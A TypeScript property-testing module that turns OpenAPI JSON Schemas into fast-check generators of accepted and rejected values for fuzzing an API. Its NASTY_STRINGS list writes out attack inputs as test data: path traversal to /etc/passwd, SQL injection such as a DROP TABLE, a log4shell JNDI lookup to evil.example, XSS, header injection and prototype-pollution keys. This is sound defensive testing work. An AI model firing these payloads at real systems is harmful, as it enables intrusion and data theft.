import fc, { type Arbitrary } from 'fast-check';

/**
 * fast-check arbitraries from the JSON Schemas of the OpenAPI document: values a schema accepts, and
 * values it must refuse. The document is TypeBox's output: inline schemas, no $ref, and only the
 * keywords below. No maintained library does this on top of fast-check (json-schema-fast-check is
 * built on fast-check 1 and unmaintained; json-schema-faker and openapi-sampler make values without
 * fast-check's shrinking and make no invalid ones), so this walks the schema and composes
 * fast-check's own arbitraries (stringMatching, emailAddress, webUrl, uuid, date…).
 */
export interface Schema {
  type?: 'string' | 'integer' | 'boolean' | 'array' | 'object';
  enum?: readonly unknown[];
  format?: string;
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  items?: Schema;
  minItems?: number;
  maxItems?: number;
  uniqueItems?: boolean;
  properties?: Record<string, Schema>;
  required?: readonly string[];
  additionalProperties?: boolean;
  minProperties?: number;
  maxProperties?: number;
}

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

/** Odd strings: injections, traversal, control characters, unicode edge cases, numbers as text. */
export const NASTY_STRINGS: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\t\r\n',
  '\r\nX-Injected: 1',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '....//....//',
  '/',
  '//',
  '.',
  '..',
  '~',
  '%',
  '%00',
  '%zz',
  "' OR '1'='1",
  "'; DROP TABLE requests; --",
  '" OR ""="',
  '1; SELECT pg_sleep(10)',
  '$1',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell payload, meant literally
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '"><x',
  '\u202e\u0644\u0627',
  '\ud800',
  '\udfff\ud800',
  '\uffff\ufffe',
  '🦄'.repeat(60),
  'Ω≈ç√∫˜µ≤≥÷',
  'ﷺ'.repeat(30),
  'null',
  'undefined',
  'true',
  'NaN',
  'Infinity',
  '-1',
  '0',
  '1e999',
  '9'.repeat(400),
  '-0',
  '0x10',
  '__proto__',
  'constructor',
  'x'.repeat(101),
  'x'.repeat(5000),
];

/** Any string, leaning on the odd ones. */
export const oddString: Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 80 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 80 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme-ascii', minLength: 101, maxLength: 3000 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', minLength: 101, maxLength: 600 }) },
);

/** Any JSON value, nested junk included. */
export const anyJson: Arbitrary<Json> = fc.oneof(
  { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 3 }) as Arbitrary<Json> },
  { weight: 1, arbitrary: oddString },
  { weight: 1, arbitrary: fc.constantFrom<Json>(null, true, false, 0, -1, 1.5, 2 ** 53, -(2 ** 63), [], {}) },
  // Deeply nested arrays and objects.
  {
    weight: 1,
    arbitrary: fc.integer({ min: 50, max: 2000 }).map((depth) => JSON.parse('['.repeat(depth) + ']'.repeat(depth)) as Json),
  },
  { weight: 1, arbitrary: fc.constant<Json>({ __proto__: { admin: true } } as unknown as Json) },
);

function regexOf(schema: Schema): RegExp | undefined {
  // Ajv compiles patterns with the unicode flag.
  return schema.pattern === undefined ? undefined : new RegExp(schema.pattern, 'u');
}

const FORMAT_CHECKS: Record<string, RegExp> = {
  uuid: /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i,
  email: /^[^@\s]+@[^@\s]+$/,
  uri: /^[a-z][a-z0-9+.-]*:/i,
  'date-time': /^\d{4}-\d{2}-\d{2}[Tt ]\d{2}:\d{2}:\d{2}(\.\d+)?([Zz]|[+-]\d{2}:\d{2})$/,
};

function validString(schema: Schema): Arbitrary<string> {
  const minLength = schema.minLength ?? 0;
  const maxLength = schema.maxLength ?? 200;
  const fits = (s: string) => [...s].length >= minLength && [...s].length <= maxLength;
  let base: Arbitrary<string>;
  switch (schema.format) {
    case 'uuid':
      base = fc.uuid();
      break;
    case 'email':
      base = fc.emailAddress();
      break;
    case 'uri':
      base = fc.webUrl({ withQueryParameters: true });
      break;
    case 'date-time':
      base = fc.date({ min: new Date('1970-01-01T00:00:00Z'), max: new Date('2100-01-01T00:00:00Z'), noInvalidDate: true }).map((d) => d.toISOString());
      break;
    default: {
      const regex = regexOf(schema);
      const plain = fc.string({ unit: 'grapheme', minLength, maxLength: Math.min(maxLength, minLength + 60) });
      if (!regex) {
        base = plain;
        break;
      }
      try {
        base = fc.stringMatching(regex, { maxLength });
      } catch {
        // A pattern fast-check cannot generate from (lookahead): filter plain strings instead.
        base = plain.filter((s) => regex.test(s));
      }
    }
  }
  const regex = regexOf(schema);
  return base.filter((s) => fits(s) && (!regex || regex.test(s)));
}

/** Values the schema accepts. */
export function valid(schema: Schema): Arbitrary<Json> {
  if (schema.enum) return fc.constantFrom(...(schema.enum as Json[]));
  switch (schema.type) {
    case 'string':
      return validString(schema);
    case 'integer':
      return fc.integer({ min: schema.minimum ?? -1_000_000, max: schema.maximum ?? 1_000_000 });
    case 'boolean':
      return fc.boolean();
    case 'array': {
      const items = valid(schema.items ?? {});
      const constraints = { minLength: schema.minItems ?? 0, maxLength: Math.min(schema.maxItems ?? 5, 5) };
      return schema.uniqueItems
        ? fc.uniqueArray(items, { ...constraints, selector: (v) => JSON.stringify(v) })
        : fc.array(items, constraints);
    }
    case 'object':
      return validObject(schema);
    default:
      return anyJson;
  }
}

function validObject(schema: Schema): Arbitrary<Json> {
  const properties = schema.properties ?? {};
  const names = Object.keys(properties);
  // "Exactly one of": one record per property.
  if (schema.maxProperties === 1) {
    return fc.oneof(...names.map((name) => valid(properties[name] as Schema).map((v) => ({ [name]: v }))));
  }
  const record = fc.record(
    Object.fromEntries(names.map((name) => [name, valid(properties[name] as Schema)])),
    { requiredKeys: [...(schema.required ?? [])] },
  ) as Arbitrary<Json>;
  const min = schema.minProperties ?? 0;
  return min > 0 ? record.filter((v) => Object.keys(v as object).length >= min) : record;
}

/** JSON values of another type than the schema's (no coercion may turn them into a valid one). */
function wrongType(schema: Schema): Arbitrary<Json> {
  const others: Arbitrary<Json>[] = [];
  const type = schema.type;
  if (type !== 'string' && !schema.enum) others.push(oddString);
  if (type !== 'integer') others.push(fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true })));
  if (type !== 'boolean') others.push(fc.boolean());
  if (type !== 'array') others.push(fc.array(fc.jsonValue({ maxDepth: 1 }) as Arbitrary<Json>, { maxLength: 3 }));
  if (type !== 'object') others.push(fc.dictionary(fc.string({ maxLength: 5 }), fc.jsonValue({ maxDepth: 1 }) as Arbitrary<Json>, { maxKeys: 3 }));
  others.push(fc.constant(null));
  return fc.oneof(...others);
}

const isNonEmptyArray = <T>(a: T[]): a is [T, ...T[]] => a.length > 0;

/** Values the schema refuses: wrong types, out of range, too long, off pattern, missing or extra properties. */
export function invalid(schema: Schema): Arbitrary<Json> {
  const options: Arbitrary<Json>[] = [wrongType(schema)];
  if (schema.enum) {
    options.push(oddString.filter((s) => !schema.enum?.includes(s)));
  } else if (schema.type === 'string') {
    const regex = regexOf(schema);
    const format = schema.format ? FORMAT_CHECKS[schema.format] : undefined;
    if (schema.maxLength !== undefined) {
      const max = schema.maxLength;
      options.push(fc.integer({ min: max + 1, max: max + 2000 }).map((n) => 'x'.repeat(n)));
    }
    if ((schema.minLength ?? 0) > 0) options.push(fc.constant(''));
    if (regex || format) options.push(oddString.filter((s) => !(regex?.test(s) ?? true) || !(format?.test(s) ?? true)));
  } else if (schema.type === 'integer') {
    options.push(fc.double({ noNaN: true, noDefaultInfinity: true, min: -1e9, max: 1e9 }).filter((n) => !Number.isInteger(n)));
    if (schema.minimum !== undefined) options.push(fc.integer({ min: -(2 ** 31), max: schema.minimum - 1 }));
    if (schema.maximum !== undefined) options.push(fc.integer({ min: schema.maximum + 1, max: 2 ** 53 }));
  } else if (schema.type === 'array') {
    if (schema.items) options.push(fc.tuple(invalid(schema.items), fc.array(valid(schema.items), { maxLength: 2 })).map(([bad, rest]) => [...rest, bad]));
    if (schema.maxItems !== undefined) options.push(fc.constant(Array.from({ length: schema.maxItems + 1 }, () => null)));
  } else if (schema.type === 'object') {
    options.push(...invalidObjects(schema));
  }
  return fc.oneof(...(options as [Arbitrary<Json>, ...Arbitrary<Json>[]]));
}

function invalidObjects(schema: Schema): Arbitrary<Json>[] {
  const properties = schema.properties ?? {};
  const asObject = valid(schema).map((v) => v as Record<string, Json>);
  const options: Arbitrary<Json>[] = [];
  if (schema.additionalProperties === false) {
    const unknown = fc.oneof(fc.constantFrom('__proto__', 'constructor', 'id', 'tenantId', 'role', 'status'), fc.string({ minLength: 1, maxLength: 20 }));
    options.push(
      fc
        .tuple(asObject, unknown.filter((k) => !(k in properties)), anyJson)
        // A computed key defines an own property, "__proto__" included.
        .map(([value, key, extra]) => ({ ...value, [key]: extra })),
    );
  }
  const required = [...(schema.required ?? [])];
  if (isNonEmptyArray(required)) {
    options.push(fc.tuple(asObject, fc.constantFrom(...required)).map(([value, key]) => {
      const { [key]: _dropped, ...rest } = value;
      return rest;
    }));
  }
  const names = Object.keys(properties);
  if (isNonEmptyArray(names)) {
    options.push(
      fc
        .constantFrom(...names)
        .chain((name) => fc.tuple(asObject, fc.constant(name), invalid(properties[name] as Schema)))
        .map(([value, name, bad]) => ({ ...value, [name]: bad })),
    );
  }
  if (schema.maxProperties !== undefined && names.length > schema.maxProperties) {
    options.push(fc.constant(Object.fromEntries(names.map((n) => [n, null]))));
  }
  if ((schema.minProperties ?? 0) > 0) options.push(fc.constant({}));
  return options;
}
